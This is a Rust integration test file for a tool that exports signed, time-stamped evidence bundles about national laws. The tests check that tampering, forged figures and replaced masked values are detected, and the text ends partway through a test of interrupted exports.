//! Evidence bundles: written by the program, checked by it, by a verifier of its own and by other people's tools, and
//! changed in a thousand ways, each of which shows.

use std::{
    collections::BTreeSet,
    fs,
    io::{Cursor, Read as _, Write as _},
    net::TcpListener,
    path::{Path, PathBuf},
    process::Command,
    thread,
    time::Instant,
};

use anyhow::{Context as _, Result, ensure};
use lexgap_domain::{
    DateKind, DatePrecision, Edition, EditionHead, EditionIndex, FactSet, Law, LawDate, LawKind, LawTitle, Provenance,
    Topic, commitment::Secret, places,
};
use lexgap_evidence::{Attestation, Inputs, KeyHistory, Redaction, Selection, SigningKey, Verdict, verify, write};
use lexgap_tests::{MirrorFolder, Program, Server, cpi_workbook, fetch, statute};
use zip::{ZipArchive, ZipWriter, write::SimpleFileOptions};

/// A store with facts about Canada, scored, with their originals.
fn scored() -> Result<(Program, MirrorFolder)> {
    let (program, mut mirror) = (Program::new()?, MirrorFolder::new()?);
    mirror.add_cpi(&cpi_workbook(180, 40.0)?)?;
    mirror.add_statute(&statute("Corruption of Foreign Public Officials Act"))?;
    let manifest = mirror.manifest()?.display().to_string();
    program.run(["crawl", "--mirror", &manifest, "ti-cpi", "ca-justice"])?.succeeded()?;
    program.run(["score", "--draws", "100", "--seed", "3"])?.succeeded()?;
    Ok((program, mirror))
}

fn bundle() -> Result<(Program, PathBuf)> {
    let (program, _mirror) = scored()?;
    let written =
        program.run(["export", "--jurisdiction", "CAN", "--out", "can.zip", "--json"])?.succeeded()?.last_json()?;
    ensure!(written["facts"] == 2 && written["originals"] == 2 && written["originals_missing"] == 0, "{written}");
    let file = program.folder().join("can.zip");
    Ok((program, file))
}

fn verdict(bytes: &[u8]) -> Verdict {
    verify(&mut Cursor::new(bytes), &[])
}

fn wrong(verdict: &Verdict) -> String {
    verdict.checked.iter().filter(|f| !f.holds).map(|f| f.what.clone()).collect::<Vec<_>>().join("\n")
}

fn python(script: &str, argument: &Path) -> Result<Option<(bool, String)>> {
    let python = std::env::var_os("LEXGAP_PYTHON").unwrap_or_else(|| "python3".into());
    let script = Path::new(&std::env::var("CARGO_MANIFEST_DIR")?).join("evidence").join(script);
    match Command::new(python).arg(script).arg(argument).output() {
        Err(e) => {
            println!("skipped: no python3 ({e}); set LEXGAP_PYTHON");
            Ok(None)
        }
        Ok(output) => {
            let said = String::from_utf8_lossy(&[output.stdout, output.stderr].concat()).into_owned();
            Ok(Some((output.status.success(), said)))
        }
    }
}

#[test]
fn a_bundle_holds_for_us_for_others_and_for_their_tools() -> Result<()> {
    let (program, file) = bundle()?;
    let said = program.run(["verify", "can.zip"])?.succeeded()?.stdout;
    for words in [
        "is signed with the key",
        "are part of edition 1",
        "2 originals are there",
        "not checked:",
        "all that could be",
    ] {
        ensure!(said.contains(words), "no `{words}` in {said}");
    }
    if let Some((holds, said)) = python("verify.py", &file)? {
        ensure!(holds, "the independent verifier says: {said}");
    }
    let folder = program.folder().join("unpacked");
    ZipArchive::new(fs::File::open(&file)?)?.extract(&folder)?;
    let bag = fs::read_dir(&folder)?.next().context("no bag")??.path();
    ensure!(bag.ends_with("lexgap-CAN-edition-1"), "{}", bag.display());
    if let Some((accepted, said)) = python("tools.py", &bag)? {
        println!("measured: {said}");
        ensure!(accepted, "another tool refuses the bundle: {said}");
    }
    let dossier = fs::read_to_string(bag.join("data/dossier.html"))?;
    for words in
        ["What is claimed", "What contradicts it", "How to check it", "Corruption of Foreign Public Officials Act"]
    {
        ensure!(dossier.contains(words), "no `{words}` in the dossier");
    }
    ensure!(!dossier.contains("http-equiv") && !dossier.contains("<script"), "the dossier asks for more than itself");
    // The same choice of the same edition by the same key is signed by the same key again.
    let key = |zip: &Path| -> Result<Option<String>> { Ok(verdict(&fs::read(zip)?).public_key) };
    program.run(["export", "--jurisdiction", "can", "--edition", "1", "--out", "again.zip"])?.succeeded()?;
    ensure!(key(&file)? == key(&program.folder().join("again.zip"))? && key(&file)?.is_some());
    Ok(())
}

#[test]
fn what_cannot_be_exported_or_verified_is_told() -> Result<()> {
    let (program, _mirror) = scored()?;
    let export = |more: &[&str]| program.run(["export", "--out", "x.zip"].iter().chain(more));
    export(&["--jurisdiction", "XXX"])?.told(&["XXX", "jurisdictions"])?;
    export(&["--jurisdiction", "CAN", "--topic", "robbery"])?.told(&["robbery", "trafficking"])?;
    export(&["--jurisdiction", "CAN", "--topic", "wildlife"])?.told(&["wildlife"])?;
    export(&["--jurisdiction", "CAN", "--edition", "9"])?.told(&["no such edition"])?;
    program
        .run(["export", "--jurisdiction", "CAN", "--out", "no/such/folder/x.zip"])?
        .told(&["no/such/folder/x.zip"])?;
    let left: Vec<_> = fs::read_dir(program.folder())?.flatten().map(|e| e.file_name()).collect();
    ensure!(
        !left.iter().any(|n| n.to_string_lossy().contains("x.zip") || n.to_string_lossy().contains("part")),
        "{left:?}"
    );
    export(&["--jurisdiction", "CAN", "--mask", "shoe_size"])?.told(&["shoe_size", "quantity"])?;
    export(&["--jurisdiction", "CAN", "--leave-out", "ti-cpi@1999"])?.told(&["ti-cpi@1999"])?;
    fs::write(program.folder().join("text.zip"), "no archive")?;
    let told = program.run(["verify", "text.zip"])?;
    ensure!(
        !told.stdout.is_empty() && told.stdout.contains("FAILS") && told.stdout.contains("does NOT hold"),
        "{}",
        told.stdout
    );
    program.run(["verify", "none.zip"])?.told(&["none.zip"])?;
    // Without the originals the bundle says so and holds all the same.
    fs::remove_dir_all(program.data().join("archive"))?;
    let written =
        program.run(["export", "--jurisdiction", "CAN", "--out", "bare.zip", "--json"])?.succeeded()?.last_json()?;
    ensure!(written["originals"] == 0 && written["originals_missing"] == 2, "{written}");
    let said = program.run(["verify", "bare.zip"])?.succeeded()?.stdout;
    ensure!(said.contains("2 originals are not in the bundle"), "{said}");
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_site_gives_out_the_same_bundle() -> Result<()> {
    let (program, _mirror) = scored()?;
    let server = Server::start_with(Some(&program.data()), &[])?;
    let page = server.get("/jurisdictions/CAN").await?.text();
    ensure!(page.contains("href=\"/jurisdictions/CAN/evidence\""), "the scorecard does not lead to its evidence");
    let form = server.get("/jurisdictions/CAN/evidence").await?.text();
    for words in
        ["action=\"/jurisdictions/CAN/evidence.zip\"", "name=\"mask\"", "name=\"edition\"", "value=\"corruption\""]
    {
        ensure!(form.contains(words), "no {words} in the form");
    }
    ensure!(server.get("/jurisdictions/XXX/evidence").await?.status == 404);
    let address = "/jurisdictions/CAN/evidence.zip?topic=&edition=1&mask=value&mask=review&leave_out=";
    let masked = server.get(address).await?;
    ensure!(
        masked.status == 200 && masked.header("content-disposition").contains("edition-1-redacted.zip"),
        "{masked:?}"
    );
    ensure!(verdict(&masked.bytes).holds(), "{}", wrong(&verdict(&masked.bytes)));
    let answer = server.get("/jurisdictions/CAN/evidence.zip").await?;
    ensure!(answer.status == 200 && answer.header("content-type") == "application/zip", "{answer:?}");
    ensure!(answer.header("content-length") == answer.bytes.len().to_string());
    ensure!(answer.header("content-disposition").contains("lexgap-CAN-edition-1.zip"));
    let found = verdict(&answer.bytes);
    ensure!(found.holds() && found.edition == Some(1), "{}", wrong(&found));
    let tag = answer.header("etag").to_owned();
    let url = format!("{}/jurisdictions/CAN/evidence.zip", server.address());
    ensure!(fetch(&url, |r| r.header("if-none-match", tag)).await?.status == 304);
    for (path, status, word) in [
        ("/jurisdictions/XXX/evidence.zip", 404, "XXX"),
        ("/jurisdictions/CAN/evidence.zip?topic=robbery", 400, "robbery"),
        ("/jurisdictions/CAN/evidence.zip?topic=wildlife", 404, "wildlife"),
        ("/jurisdictions/CAN/evidence.zip?edition=9", 404, "edition 9"),
        ("/jurisdictions/CAN/evidence.zip?edition=x", 400, "edition"),
        ("/jurisdictions/CAN/evidence.zip?mask=shoe_size", 400, "shoe_size"),
    ] {
        let answer = server.get(path).await?;
        ensure!(answer.status == status && answer.text().contains(word), "{path}: {} {}", answer.status, answer.text());
    }
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_changed_after_a_law_goes_with_the_evidence() -> Result<()> {
    let server = Server::shared()?;
    let effects = server.items("/api/v1/effects?estimated=true").await?;
    let effect = effects.first().context("nothing can be estimated from the baseline")?;
    let of = |field: &str| effect[field].as_str().unwrap_or_default().to_owned();
    let (law, place, topic, measure) = (of("law"), of("jurisdiction"), of("topic"), of("measure"));
    // The rows of a table about this law and topic.
    let rows = |zip: &[u8], table: &str| -> Result<Vec<csv::StringRecord>> {
        ensure!(verdict(zip).holds(), "{}", wrong(&verdict(zip)));
        let mut archive = ZipArchive::new(Cursor::new(zip))?;
        let end = format!("/tables/{table}.csv");
        let names = archive.file_names().collect::<Result<Vec<_>, _>>()?;
        let name = names.into_iter().find(|n| n.ends_with(&end)).context("no such table")?.into_owned();
        let mut text = String::new();
        archive.by_name(&name)?.read_to_string(&mut text)?;
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let at = |name: &str, head: &csv::StringRecord| head.iter().position(|h| h == name);
        let head = reader.headers()?.clone();
        let (l, t) = at("law", &head).zip(at("topic", &head)).context("no law or topic")?;
        let all = reader.records().collect::<Result<Vec<_>, _>>()?;
        Ok(all.into_iter().filter(|r| r[l] == *law && r[t] == *topic).collect())
    };
    let whole = server.get(&format!("/jurisdictions/{place}/evidence.zip")).await?.bytes;
    let row = rows(&whole, "effects")?;
    let overall = effect["overall"]["value"].as_f64().context("no overall change")?;
    ensure!(row.len() == 1 && row[0].iter().any(|cell| cell.parse() == Ok(overall)), "{overall} is not in {row:?}");
    let years = effect["points"].as_array().context("no years")?.len();
    ensure!(years > 5 && rows(&whole, "effect_years")?.len() == years, "not {years} years");

    // Without one of its counts the result would tell of it.
    let counts = format!("/api/v1/observations?jurisdiction={place}&topic={topic}&measure={measure}");
    let counts = server.items(&counts).await?;
    let count = counts.first().and_then(|c| c["id"].as_str()).context("no count")?;
    let without = server.get(&format!("/jurisdictions/{place}/evidence.zip?leave_out={count}")).await?;
    ensure!(without.status == 200, "{}", without.text());
    ensure!(rows(&without.bytes, "effects")?.is_empty() && rows(&without.bytes, "effect_years")?.is_empty());
    Ok(())
}

/// Numbers that follow from a seed (SplitMix64).
struct Seeded(u64);

impl Seeded {
    fn below(&mut self, n: usize) -> usize {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        usize::try_from((z ^ (z >> 31)) % n.max(1) as u64).unwrap_or(0)
    }
}

/// Bytes changed in one of the ways that bytes change, and which.
fn mutated(bytes: &[u8], seeded: &mut Seeded) -> (Vec<u8>, &'static str) {
    let (mut out, at) = (bytes.to_vec(), seeded.below(bytes.len()));
    let what = match seeded.below(6) {
        0 => {
            out[at] ^= 1 << seeded.below(8);
            "a bit turned"
        }
        1 => {
            out[at] = out[at].wrapping_add(1 + u8::try_from(seeded.below(255)).unwrap_or(0));
            "a byte replaced"
        }
        2 => {
            out.remove(at);
            "a byte taken out"
        }
        3 => {
            out.insert(at, b'0');
            "a byte put in"
        }
        4 => {
            out.truncate(at);
            "cut off"
        }
        _ => {
            let (length, to) = (1 + seeded.below(200), seeded.below(bytes.len()));
            let piece: Vec<u8> = out.drain(at..(at + length).min(bytes.len())).collect();
            let to = to.min(out.len());
            out.splice(to..to, piece);
            "a piece moved"
        }
    };
    (out, what)
}

/// The bag packed again as Lexgap packs it, with one file changed.
fn packed(files: &[(String, Vec<u8>)]) -> Result<Vec<u8>> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    let options = SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Stored)
        .last_modified_time(zip::DateTime::default())
        .unix_permissions(0o644);
    for (name, content) in files {
        writer.start_file(name.as_str(), options)?;
        writer.write_all(content)?;
    }
    Ok(writer.finish()?.into_inner())
}

/// Each way to change a bundle is tried on one that shows everything and on one with masked fields.
#[test]
fn a_thousand_changes_are_all_seen() -> Result<()> {
    let (program, file) = bundle()?;
    changes_are_seen(&fs::read(&file)?, 1_000)?;
    let arguments = ["export", "--jurisdiction", "CAN", "--mask", "value,citation", "--out", "masked.zip"];
    program.run(arguments)?.succeeded()?;
    changes_are_seen(&fs::read(program.folder().join("masked.zip"))?, 500)
}

fn changes_are_seen(bytes: &[u8], least: usize) -> Result<()> {
    ensure!(verdict(bytes).holds(), "{}", wrong(&verdict(bytes)));
    let mut archive = ZipArchive::new(Cursor::new(bytes))?;
    let mut files = Vec::new();
    for i in 0..archive.len() {
        let mut entry = archive.by_index(i)?;
        let (name, mut content) = (entry.name()?.into_owned(), Vec::new());
        entry.read_to_end(&mut content)?;
        files.push((name, content));
    }
    ensure!(packed(&files)? == bytes, "the test packs otherwise than the program");
    let (mut seeded, mut tried) = (Seeded(20_261_125 + least as u64), 0);
    // Of the ZIP file as a whole.
    for _ in 0..least * 52 / 100 {
        let (changed, what) = mutated(bytes, &mut seeded);
        if changed != bytes {
            tried += 1;
            ensure!(!verdict(&changed).holds(), "{what}: not seen");
        }
    }
    // Of one file, packed again as if it had been so from the beginning; of one line; a file less; two files in each
    // other's place.
    for round in 0..least / 2 {
        let mut changed = files.clone();
        let which = seeded.below(changed.len());
        let what = match round % 4 {
            0 => {
                changed.remove(which);
                "a file taken out"
            }
            1 => {
                let other = (which + 1 + seeded.below(changed.len() - 1)) % changed.len();
                let content = std::mem::take(&mut changed[which].1);
                changed[which].1 = std::mem::replace(&mut changed[other].1, content);
                "two files in each other's place"
            }
            2 => {
                let lines: Vec<&[u8]> = files[which].1.split_inclusive(|b| *b == b'\n').collect();
                let (a, b) = (seeded.below(lines.len()), seeded.below(lines.len()));
                let mut lines: Vec<&[u8]> = lines.clone();
                if a == b {
                    lines.remove(a);
                } else {
                    lines.swap(a, b)
                }
                changed[which].1 = lines.concat();
                "a line moved or taken out"
            }
            _ => {
                let (content, what) = mutated(&files[which].1, &mut seeded);
                changed[which].1 = content;
                what
            }
        };
        if changed != files {
            tried += 1;
            ensure!(!verdict(&packed(&changed)?).holds(), "{what} in {}: not seen", files[which].0);
        }
    }
    println!("measured: {tried} changes, all seen");
    ensure!(tried >= least, "only {tried} changes");
    Ok(())
}

/// Somebody who changes a figure and makes all manifests again is given away by the signature; who signs anew with a key
/// of his own, by the proofs.
#[test]
fn a_forger_with_a_key_of_his_own_is_given_away_by_the_proofs() -> Result<()> {
    let (program, file) = bundle()?;
    let folder = program.folder().join("forged");
    ZipArchive::new(fs::File::open(&file)?)?.extract(&folder)?;
    let bag = fs::read_dir(&folder)?.next().context("no bag")??.path();
    let facts = bag.join("data/facts.jsonl");
    let text = fs::read_to_string(&facts)?;
    let forged = text.replacen("40.0", "90.0", 1);
    ensure!(forged != text, "the figure is not there: {text}");
    fs::write(&facts, forged)?;
    let mut files = Vec::new();
    let mut archive = ZipArchive::new(fs::File::open(&file)?)?;
    for i in 0..archive.len() {
        let name = archive.by_index(i)?.name()?.into_owned();
        files.push((name.clone(), fs::read(folder.join(&name))?));
    }
    let said = wrong(&verdict(&packed(&files)?));
    for words in
        ["facts.jsonl is not what manifest-sha256.txt says", "does not lead to the edition's root", "does not say what"]
    {
        ensure!(said.contains(words), "no `{words}` in {said}");
    }
    Ok(())
}

/// All texts of a bag, by path below `data/`.
fn texts(file: &Path) -> Result<Vec<(String, Vec<u8>)>> {
    let mut archive = ZipArchive::new(fs::File::open(file)?)?;
    let mut all = Vec::new();
    for i in 0..archive.len() {
        let mut entry = archive.by_index(i)?;
        let (name, mut content) = (entry.name()?.into_owned(), Vec::new());
        entry.read_to_end(&mut content)?;
        all.push((name, content));
    }
    Ok(all)
}

#[test]
fn what_is_masked_or_left_out_is_nowhere_and_the_rest_is_proven() -> Result<()> {
    let (program, whole) = bundle()?;
    let export = |name: &str, more: &[&str]| -> Result<(PathBuf, serde_json::Value)> {
        let arguments = ["export", "--jurisdiction", "CAN", "--json", "--out", name];
        let written = program.run(arguments.iter().chain(more))?.succeeded()?.last_json()?;
        let file = program.folder().join(name);
        ensure!(verdict(&fs::read(&file)?).holds(), "{}", wrong(&verdict(&fs::read(&file)?)));
        if let Some((holds, said)) = python("verify.py", &file)? {
            ensure!(holds && said.contains("left out by whoever made it"), "the independent verifier says: {said}");
        }
        Ok((file, written))
    };
    let title = "Corruption of Foreign Public Officials Act";
    let shows = |file: &Path, words: &str| -> Result<Vec<String>> {
        let all = texts(file)?.into_iter();
        Ok(all.filter(|(_, c)| String::from_utf8_lossy(c).contains(words)).map(|(name, _)| name).collect())
    };
    ensure!(shows(&whole, title)?.len() > 3, "the title does not stand where it is looked for");

    // A field of all facts.
    let (file, written) = export("titles.zip", &["--mask", "titles"])?;
    ensure!(written["masked"] == 1 && written["left_out"] == 0 && written["facts"] == 2, "{written}");
    // With it the original goes, which says the same.
    ensure!(written["originals"] == 1 && written["originals_missing"] == 1, "{written}");
    ensure!(shows(&file, title)?.is_empty(), "the masked title stands in {:?}", shows(&file, title)?);
    ensure!(shows(&file, "ti-cpi")?.len() > 3, "more is masked than was asked for");
    let said = program.run(["verify", "titles.zip"])?.succeeded()?.stdout;
    ensure!(said.contains("left out of it: no fact; fields of 1 facts") && said.contains("titles"), "{said}");
    let folder = program.folder().join("titles");
    ZipArchive::new(fs::File::open(&file)?)?.extract(&folder)?;
    let bag = fs::read_dir(&folder)?.next().context("no bag")??.path();
    if let Some((accepted, said)) = python("tools.py", &bag)? {
        ensure!(accepted, "another tool refuses the redacted bundle: {said}");
    }

    // A fact, and a field of one fact.
    let (file, written) = export("fact.zip", &["--leave-out", "ti-cpi@2012"])?;
    ensure!(written["left_out"] == 1 && written["facts"] == 1, "{written}");
    ensure!(shows(&file, "\"value\":\"40")?.is_empty() && shows(&file, "ti-cpi@2012")?.is_empty());
    let (_, written) = export("field.zip", &["--leave-out", "ti-cpi@2012.label"])?;
    ensure!(written["left_out"] == 0 && written["masked"] == 1, "{written}");

    // A value that few others could be is not to be guessed: the hash that stands for it is over no more than a guess
    // can hold, were it not for the salt.
    let (file, _) = export("value.zip", &["--mask", "value"])?;
    let facts = texts(&file)?.into_iter().find(|(name, _)| name.ends_with("/facts.jsonl")).context("no facts")?.1;
    let line = String::from_utf8(facts)?;
    let point = line.lines().find(|l| l.contains("indicator_point")).context("no point")?;
    let point: serde_json::Value = serde_json::from_str(point)?;
    let fields = point["fields"].as_array().context("no fields")?;
    let masked = fields.iter().find(|f| f["name"] == "value").context("no value")?;
    ensure!(point.get("salt").is_none() && masked.get("salt").is_none() && masked.get("value").is_none(), "{point}");
    let salts: BTreeSet<&str> = fields.iter().filter_map(|f| f["salt"].as_str()).collect();
    ensure!(salts.len() == fields.iter().filter(|f| f.get("hash").is_none()).count(), "salts are shared: {point}");
    Ok(())
}

/// Whoever puts a value in the place of a masked one, or another hash, is given away by the proof.
#[test]
fn a_masked_value_cannot_be_replaced() -> Result<()> {
    let (program, _file) = bundle()?;
    program.run(["export", "--jurisdiction", "CAN", "--mask", "value", "--out", "m.zip"])?.succeeded()?;
    let files = texts(&program.folder().join("m.zip"))?;
    let at = files.iter().position(|(name, _)| name.ends_with("/facts.jsonl")).context("no facts")?;
    let text = String::from_utf8(files[at].1.clone())?;
    let hash =
        text.split("\"name\":\"value\",\"hash\":\"").nth(1).and_then(|t| t.get(..64)).context("no hash")?.to_owned();
    let salt = text.split("\"salt\":\"").nth(1).and_then(|t| t.get(..64)).context("no salt")?.to_owned();
    let other = format!("\"value\":\"90.0\",\"salt\":\"{salt}\"");
    for forged in [text.replace(&hash, &salt), text.replace(&format!("\"hash\":\"{hash}\""), &other)] {
        ensure!(forged != text);
        let mut files = files.clone();
        files[at].1 = forged.into_bytes();
        let said = wrong(&verdict(&packed(&files)?));
        ensure!(said.contains("does not lead to the edition's root"), "{said}");
    }
    Ok(())
}

#[test]
fn keys_change_and_editions_form_a_chain() -> Result<()> {
    let (program, first) = bundle()?;
    let keys = |command: &str| program.run(["keys", command, "--json"])?.succeeded()?.last_json();
    let before = keys("list")?;
    let after = keys("rotate")?;
    ensure!(before.as_array().map(Vec::len) == Some(1) && after[0] == before[0], "{before} {after}");
    ensure!(keys("list")? == after && after[1]["signature"].is_string(), "{after}");
    // What was signed before still holds, with the old key; what is signed now names both.
    ensure!(verdict(&fs::read(&first)?).public_key.as_deref() == before[0]["public_key"].as_str());
    program.run(["export", "--jurisdiction", "CAN", "--out", "after.zip"])?.succeeded()?;
    let said = program.run(["verify", "after.zip"])?.succeeded()?.stdout;
    let old = before[0]["public_key"].as_str().context("no key")?;
    ensure!(said.contains(&format!("statement is signed with the key {old}")) && said.contains("2 keys"), "{said}");
    if let Some((holds, said)) = python("verify.py", &program.folder().join("after.zip"))? {
        ensure!(holds, "the independent verifier says: {said}");
    }
    let root = |json: &serde_json::Value| json["merkle_root"].as_str().map(str::to_owned).context("no root");
    let second = program.run(["score", "--draws", "100", "--seed", "4", "--json"])?.succeeded()?.last_json()?;
    program.run(["export", "--jurisdiction", "CAN", "--out", "second.zip"])?.succeeded()?;
    let said = program.run(["verify", "second.zip"])?.succeeded()?.stdout;
    ensure!(said.contains(&format!("the root of the edition before, {}", root(&second)?)), "{said}");
    // A list of keys that was tampered with is seen.
    let file = program.data().join("keys/history.json");
    let text = fs::read_to_string(&file)?;
    fs::write(&file, text.replacen("\"signature\": \"", "\"signature\": \"0", 1))?;
    program.run(["export", "--jurisdiction", "CAN", "--out", "x.zip"])?.told(&["history.json", "backup"])?;
    Ok(())
}

fn openssl(folder: &Path, arguments: &[&str]) -> Result<Vec<u8>> {
    let output = Command::new("openssl").current_dir(folder).args(arguments).output()?;
    ensure!(output.status.success(), "openssl {arguments:?}: {}", String::from_utf8_lossy(&output.stderr));
    Ok(output.stdout)
}

const AUTHORITY: &str = "[tsa]\ndefault_tsa = it\n[it]\nserial = serial\ncrypto_device = builtin\nsigner_cert = tsa.pem\n\
    signer_key = tsa.key\nsigner_digest = sha256\ndefault_policy = 1.2.3.4.1\ndigests = sha256\naccuracy = secs:1\n\
    ess_cert_id_alg = sha256\n[ext]\nextendedKeyUsage = critical,timeStamping\nbasicConstraints = critical,CA:false\n\
    [ca]\nbasicConstraints = critical,CA:true\nkeyUsage = critical,keyCertSign\n[req]\ndistinguished_name = dn\n[dn]\n";

/// A time-stamping authority: OpenSSL behind a small HTTP server. Gives its address.
fn authority(folder: &Path, key: &[&str]) -> Result<String> {
    fs::write(folder.join("tsa.cnf"), AUTHORITY)?;
    fs::write(folder.join("serial"), "01\n")?;
    let config = ["-config", "tsa.cnf"];
    let new = |name: &str, subject: &str, more: &[&str]| -> Result<()> {
        let (secret, file) = (format!("{name}.key"), format!("{name}.pem"));
        let begin = ["req", "-x509", "-nodes", "-days", "30", "-keyout", &secret, "-out", &file, "-subj", subject];
        openssl(folder, &begin.iter().chain(key).chain(&config).chain(more).copied().collect::<Vec<_>>()).map(drop)
    };
    new("ca", "/CN=A root of tests", &["-extensions", "ca"])?;
    new("other", "/CN=Another root", &["-extensions", "ca"])?;
    new("tsa", "/CN=An authority of tests", &["-extensions", "ext", "-CA", "ca.pem", "-CAkey", "ca.key"])?;
    let listener = TcpListener::bind("127.0.0.1:0")?;
    let (address, folder) = (listener.local_addr()?, folder.to_owned());
    thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { break };
            let mut reply = || -> Result<Vec<u8>> {
                let (mut request, mut buffer) = (Vec::new(), [0; 4_096]);
                let body = loop {
                    let n = stream.read(&mut buffer)?;
                    request.extend_from_slice(&buffer[..n]);
                    let Some(end) = request.windows(4).position(|w| w == b"\r\n\r\n") else { continue };
                    let head = String::from_utf8_lossy(&request[..end]).to_lowercase();
                    ensure!(head.contains("application/timestamp-query"), "{head}");
                    let length = head.split("content-length: ").nth(1).context("no length")?;
                    let length: usize = length.lines().next().context("no length")?.trim().parse()?;
                    if n == 0 || request.len() >= end + 4 + length {
                        break request[end + 4..].to_vec();
                    }
                };
                fs::write(folder.join("query.tsq"), body)?;
                openssl(
                    &folder,
                    &["ts", "-reply", "-config", "tsa.cnf", "-queryfile", "query.tsq", "-out", "answer.tsr"],
                )?;
                Ok(fs::read(folder.join("answer.tsr"))?)
            };
            let answer = reply().unwrap_or_default();
            let head = format!(
                "HTTP/1.1 200 OK\r\nContent-Type: application/timestamp-reply\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                answer.len()
            );
            let _ = stream.write_all(head.as_bytes()).and_then(|()| stream.write_all(&answer));
        }
    });
    Ok(format!("http://{address}/"))
}

#[test]
fn an_authority_stamps_the_time_of_an_edition() -> Result<()> {
    if Command::new("openssl").arg("version").output().is_err() {
        println!("skipped: no openssl to stamp times with");
        return Ok(());
    }
    let rsa = ["-newkey", "rsa:2048"];
    let curve = ["-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256"];
    for key in [&rsa[..], &curve[..]] {
        let (mut program, mut mirror) = (Program::new()?, MirrorFolder::new()?);
        mirror.add_cpi(&cpi_workbook(180, 40.0)?)?;
        let manifest = mirror.manifest()?.display().to_string();
        program.run(["crawl", "--mirror", &manifest, "ti-cpi"])?.succeeded()?;
        let folder = program.folder().to_owned();
        program.env("LEXGAP_TIMESTAMP_URL", &authority(&folder, key)?);
        program.run(["score", "--draws", "100", "--seed", "3"])?.succeeded()?;
        program.run(["export", "--jurisdiction", "CAN", "--out", "can.zip"])?.succeeded()?;
        let said = program.run(["verify", "can.zip"])?.succeeded()?.stdout;
        ensure!(
            said.contains("An authority of tests stamped") && said.contains("not checked: Whether the certificate"),
            "{said}"
        );
        let said = program.run(["verify", "can.zip", "--trust", "ca.pem"])?.succeeded()?.stdout;
        ensure!(said.contains("leads to one that you trust"), "{said}");
        let said = program.run(["verify", "can.zip", "--trust", "other.pem"])?.succeeded()?.stdout;
        ensure!(said.contains("not checked: Whether the certificate"), "{said}");
        if let Some((holds, said)) = python("verify.py", &folder.join("can.zip"))? {
            ensure!(holds && said.contains("the signature of the time stamp"), "{said}");
        }
        // OpenSSL agrees, and a change anywhere in the stamp is seen.
        let files = texts(&folder.join("can.zip"))?;
        let part = |end: &str| files.iter().position(|(name, _)| name.ends_with(end)).with_context(|| end.to_owned());
        let (stamp, said) = (part("/attestation.tsr")?, part("/attestation.json")?);
        let said: serde_json::Value = serde_json::from_slice(&files[said].1)?;
        let statement = said["statement"].as_str().context("no statement")?.to_owned();
        fs::write(folder.join("statement.txt"), &statement)?;
        fs::write(folder.join("stamp.tsr"), &files[stamp].1)?;
        openssl(&folder, &["ts", "-verify", "-in", "stamp.tsr", "-data", "statement.txt", "-CAfile", "ca.pem"])?;
        let roots = lexgap_evidence::stamp::certificates(&fs::read(folder.join("ca.pem"))?)?;
        let check = |bytes: &[u8], statement: &str| lexgap_evidence::stamp::check(bytes, statement, None, &roots);
        let right = check(&files[stamp].1, &statement)?;
        ensure!(right.trusted && check(&files[stamp].1, "another statement").is_err());
        let mut seeded = Seeded(77);
        let mut unseen = 0;
        for _ in 0..300 {
            let mut changed = files[stamp].1.clone();
            let at = seeded.below(changed.len());
            changed[at] ^= 1 << seeded.below(8);
            // What is left must be the same in all that is signed: time, authority and trust.
            match check(&changed, &statement) {
                Ok(found) if found == right => unseen += 1,
                Ok(found) => anyhow::bail!("a changed stamp says {found:?} and not {right:?}"),
                Err(_) => {}
            }
        }
        println!("measured: of 300 changed bits of a stamp, {unseen} change nothing that is signed");
        ensure!(unseen < 30, "{unseen} changes are not seen");
    }
    Ok(())
}

/// An authority that answers nonsense or not at all leaves an edition without a stamp, and says so.
#[test]
fn an_authority_that_does_not_stamp_is_told() -> Result<()> {
    let (mut program, _mirror) = scored()?;
    let listener = TcpListener::bind("127.0.0.1:0")?;
    let address = listener.local_addr()?;
    thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { break };
            let _ = stream.read(&mut [0; 4_096]);
            let _ = stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello");
        }
    });
    program.run(["keys", "stamp"])?.told(&["LEXGAP_TIMESTAMP_URL"])?;
    program.env("LEXGAP_TIMESTAMP_URL", format!("http://{address}/"));
    program.run(["keys", "stamp"])?.told(&["time-stamping authority", "cannot be read"])?;
    let told = program.run(["score", "--draws", "100", "--seed", "3"])?.succeeded()?.stderr;
    ensure!(told.contains("no time stamp") && told.contains("lexgap keys stamp"), "{told}");
    program.run(["export", "--jurisdiction", "CAN", "--out", "can.zip"])?.succeeded()?;
    let said = program.run(["verify", "can.zip"])?.succeeded()?.stdout;
    ensure!(said.contains("nobody else stamped its time"), "{said}");
    Ok(())
}

/// An export that is broken off leaves the file that was there, or nothing.
#[test]
fn an_export_that_is_broken_off_leaves_nothing_half_made() -> Result<()> {
    let (program, _file) = bundle()?;
    let began = Instant::now();
    program.run(["export", "--jurisdiction", "CAN", "--out", "unbroken.zip"])?.succeeded()?;
    let takes = began.elapsed();
    let (mut broken, mut whole) = (0, 0);
    for round in 0..40_u32 {
        let out = format!("out-{round}.zip");
        let mut child = program.spawn(["export", "--jurisdiction", "CAN", "--out", &out])?;
        thread::sleep(takes * round / 40);
        Command::new("kill").args(["-INT", &child.id().to_string()]).status()?;
        child.wait()?;
        match fs::read(program.folder().join(&out)) {
            Ok(bytes) => {
                ensure!(verdict(&bytes).holds(), "a broken bundle stands under its name");
                whole += 1;
            }
            Err(_) => broken += 1,
        }
    }
    println!("measured: 40 exports stopped, {broken} left nothing, {whole} were done before");
    ensure!(broken > 0, "none was stopped in time");
    let left: Vec<String> =
        fs::read_dir(program.folder())?.flatten().map(|e| e.file_name().to_string_lossy().into_owned()).collect();
